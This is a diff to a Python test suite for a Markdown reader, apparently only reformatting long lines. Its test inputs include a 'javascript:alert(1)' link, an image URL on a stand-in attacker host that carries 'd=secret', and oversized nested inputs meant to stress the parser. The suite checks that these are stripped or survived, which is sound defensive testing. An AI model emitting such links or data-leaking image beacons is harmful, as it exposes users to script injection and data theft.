@@ -18,7 +18,9 @@ def kinds(document: Document) -> list[tuple[str, str]]:
 
 
 def test_headings_lists_tables_and_code_come_out_as_blocks() -> None:
-    document = read("# Guide\n\nIntro *with* **marks**.\n\n1. one\n   - deep\n2. two\n\n| A | B |\n|---|---|\n| 1 | `x` |\n\n```py\na = 1\n```\n")
+    document = read(
+        "# Guide\n\nIntro *with* **marks**.\n\n1. one\n   - deep\n2. two\n\n| A | B |\n|---|---|\n| 1 | `x` |\n\n```py\na = 1\n```\n"
+    )
     assert kinds(document) == [
         ("heading", "Guide"),
         ("paragraph", "Intro with marks."),
@@ -34,12 +36,16 @@ def test_headings_lists_tables_and_code_come_out_as_blocks() -> None:
 
 
 def test_links_keep_their_address_where_others_can_open_it() -> None:
-    document = read("See [Flask](https://flask.dev), <https://a.b>, [here](other.md), [mail](mailto:a@b.c) and [x](javascript:alert(1)).")
+    document = read(
+        "See [Flask](https://flask.dev), <https://a.b>, [here](other.md), [mail](mailto:a@b.c) and [x](javascript:alert(1))."
+    )
     assert document.text == "See [Flask](https://flask.dev), https://a.b, here, [mail](mailto:a@b.c) and x."
 
 
 def test_reference_links_are_resolved_and_images_are_never_kept() -> None:
-    text = read("Read [the book][b]. ![spy](https://evil.example/p.png?d=secret) ![ref][i]\n\n[b]: https://b.org\n[i]: https://evil.example/q").text
+    text = read(
+        "Read [the book][b]. ![spy](https://evil.example/p.png?d=secret) ![ref][i]\n\n[b]: https://b.org\n[i]: https://evil.example/q"
+    ).text
     assert text == "Read [the book](https://b.org)."
 
 
@@ -141,7 +147,15 @@ def test_tex_becomes_text(tex: str, expected: str) -> None:
 
 @pytest.mark.parametrize(
     "source",
-    [">" * 10_000 + " x", "- " * 10_000 + "x", "[" * 10_000 + "x", "*a " * 20_000, "<div>" * 20_000 + "x", "`" * 20_000, "$x" * 20_000]
+    [
+        ">" * 10_000 + " x",
+        "- " * 10_000 + "x",
+        "[" * 10_000 + "x",
+        "*a " * 20_000,
+        "<div>" * 20_000 + "x",
+        "`" * 20_000,
+        "$x" * 20_000,
+    ]
     + ["<sup>" * 10_000, "![" * 10_000, "| a " * 5_000 + "\n" + "|---" * 5_000, "[a](" * 10_000, "<!--" * 10_000, "&" * 50_000],
     ids=range(13),
 )
